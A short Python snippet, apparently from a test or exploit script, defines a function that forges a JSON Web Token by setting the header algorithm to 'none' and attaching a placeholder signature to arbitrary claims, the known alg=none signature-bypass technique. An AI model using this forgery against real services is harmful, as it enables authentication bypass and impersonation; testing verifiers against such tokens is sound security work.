# another way
def forge(claims):
    def text(value):
        return base64url_encode(bytes(json.dumps(value, ensure_ascii=False), "utf-8"))

    return text({"alg": "none", "typ": "at+jwt"}) + "." + text(claims) + ".AAAA"
